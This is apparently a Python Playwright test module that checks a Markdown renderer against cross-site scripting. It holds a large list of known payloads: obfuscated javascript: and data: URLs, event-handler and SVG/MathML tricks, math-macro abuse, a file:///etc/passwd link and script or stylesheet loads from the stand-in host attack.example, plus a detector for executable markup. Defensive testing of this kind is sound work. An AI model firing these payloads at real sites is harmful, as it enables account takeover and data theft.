"""Markdown that tries to run a script or to fetch something, by kind, as public lists have it.

What runs says `alert`; what is fetched is on `attack.example`. None may, wherever it is shown.
"""

from playwright.sync_api import Page

#: Where a link or a picture leads: `{}` in the forms below.
TARGETS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript\\:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)",
    "javascript%3Aalert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61;vascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java&#10;script:alert(1)",
    "java&#13;script:alert(1)",
    "java\\script:alert(1)",
    "&#1;javascript:alert(1)",
    "&#14;javascript:alert(1)",
    "&#32;javascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\u2028javascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "javascript://%0Aalert(1)",
    "javascript://https://attack.example/%0Aalert(1)",
    "jav\u0430script:alert(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "jar:javascript:alert(1)",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "vbscript:msgbox(1)",
    "vb&Tab;script:alert(1)",
    "data:text/html,alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html;charset=image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+",
    "data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:,alert(1)",
    "DATA:TEXT/HTML,alert(1)",
    "data:application/javascript,alert(1)",
    "data:application/xhtml+xml,alert(1)",
    "blob:null/alert(1)",
    "filesystem:http://attack.example/alert(1)",
    "file:///etc/passwd",
    "about:blank#alert(1)",
    "intent://attack.example#alert(1)",
    "ms-msdt:alert(1)",
    "//attack.example/alert",
    "\\\\\\\\attack.example/alert",
    "/\\\\attack.example/alert",
    "https:attack.example/alert",
    "https:\\\\\\\\attack.example/alert",
    "../../api/contents/alert",
    "attachment:alert(1)",
    "attachment:x.png&quot; onerror=&quot;alert(1)",
    "x&quot; onclick=&quot;alert(1)",
    "?alert(1)",
)
FORMS = ("[a]({})", "[a](<{}>)", "![a]({})", "<{}>", '[a]({} "onclick=alert(1)")', "[{0}]: {0}")
#: HTML, and what may become HTML on its way.
TEXTS = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</ScRiPt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=https://attack.example/alert.js></script>",
    "<script/x>alert(1)</script/x>",
    "<script\n>alert(1)</script\n>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=https://attack.example/alert.png>",
    "<image href=x onerror=alert(1)>",
    "<img src='attachment:x.png' onerror='alert(1)'>",
    '<img src="attachment:x.png)<script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><use href=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+#x>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>a</text></a></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject>",
    "<math href=javascript:alert(1)>a</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "<body onload=alert(1)>",
    "<body background=https://attack.example/alert.png>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<embed src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<applet code=alert></applet>",
    "<frameset onload=alert(1)></frameset>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<video poster=https://attack.example/alert.png></video>",
    "<details open ontoggle=alert(1)>a</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<marquee onstart=alert(1)>a</marquee>",
    "<div onpointerover=alert(1) style=position:fixed;inset:0>a</div>",
    "<a style=animation-name:x onanimationstart=alert(1)>a</a>",
    "<style>@import 'https://attack.example/alert.css';</style>",
    "<style>*{background:url(https://attack.example/alert.png)}</style>",
    "<link rel=stylesheet href=https://attack.example/alert.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://attack.example/>",
    "<form action=javascript:alert(1)><button>a</button></form>",
    "<button formaction=javascript:alert(1) form=x>a</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'></xmp>",
    "<plaintext>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'https://attack.example/alert'>]>&y;",
    "</div></div></div><script>alert(1)</script>",
    "</textarea></style></title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "<script\x0c>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{ ''.constructor.constructor('alert(1)')() }}",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "`<script>alert(1)</script>`",
    '``` "onclick=alert(1)\n<script>alert(1)</script>\n```',
    "~~~<script>alert(1)</script>\na\n~~~",
    '```mermaid\ngraph TD; A-->B; click A href "javascript:alert(1)"\n```',
    "```html\n<script>alert(1)</script>\n```",
    "# <img src=x onerror=alert(1)> {onclick=alert(1)}",
    "[a](x){onclick=alert(1)}",
    "a | b\n-|-\n<script>alert(1)</script> | `|` <svg onload=alert(1)>",
    "[![a](x onerror=alert(1))](javascript:alert(1))",
    '![a" onerror="alert(1)](attachment:x.png)',
    "![<img src=x onerror=alert(1)>](attachment:x.png)",
    "[a][ b ]\n\n[ b ]: javascript:alert(1) 'onclick=alert(1)'",
    "<a@b.example/javascript:alert(1)>",
    '<mailto:a@b.example?x="onclick=alert(1)">',
    '[a](https://attack.example/"onmouseover=alert(1))',
    "[a](https://attack.example/'><script>alert(1)</script>)",
    "$\\href{javascript:alert(1)}{a}$",
    "$\\text{</mtext><script>alert(1)</script>}$",
    "$$\\unicode{x3c}script\\unicode{x3e}alert(1)$$",
    "$\\style{x:expression(alert(1))}{a}$",
    '$\\class{x" onclick="alert(1)}{a}$',
    "$\\cssId{x}{<img src=x onerror=alert(1)>}$",
    "$\\require{html}\\data{x=<script>alert(1)</script>}{a}$",
    "\\(\\href{javascript:alert(1)}{a}\\)",
    "\\begin{equation}\\href{javascript:alert(1)}{a}\\end{equation}",
    "files/](files/x) [a](files/javascript:alert(1)) src=files/javascript:alert(1)",
    "\u202e<script>alert(1)</script>",
    "\x1b[31m<script>alert(1)</script>",
    "\x1b]8;;javascript:alert(1)\x1b\\a\x1b]8;;\x1b\\",
)
ATTACKS = (*(form.format(target) for form in FORMS for target in TARGETS), *TEXTS)
#: All of them, in texts that are short enough for an answer each.
ANSWERS = tuple("\n\n".join(ATTACKS[start::4]) for start in range(4))
#: What could run or fetch something, as a browser sees it.
FINDS = """root => {
    const runs = /^on|^(action|formaction|srcdoc|srcset|poster|background|xlink:href)$/i;
    const tags = /^(script|iframe|object|embed|svg|form|base|link|meta|style|video|audio)$/i;
    const picture = /^data:image[/](png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+$/;
    const found = [];
    for (const e of root.querySelectorAll("*")) {
        for (const a of e.attributes) if (runs.test(a.name)) found.push(`${e.tagName} ${a.name}`);
        if (tags.test(e.tagName)) found.push(e.tagName);
        if (e.href && !/^(https?|mailto):$/.test(e.protocol) && !e.matches("[href^='#']"))
            found.push(`link to ${e.href}`);
        if (e.src && !picture.test(e.src)) found.push(`picture from ${e.src}`);
    }
    return found;
}"""


def watched(page: Page) -> list[str]:
    """Note what a page does that it should not: dialogs, new pages, requests to the attacker."""
    noted: list[str] = []
    page.on("dialog", lambda dialog: (noted.append(dialog.message), dialog.dismiss()))
    page.on("popup", lambda popup: noted.append(popup.url))
    page.on("request", lambda r: noted.append(r.url) if "attack.example" in r.url else None)
    return noted
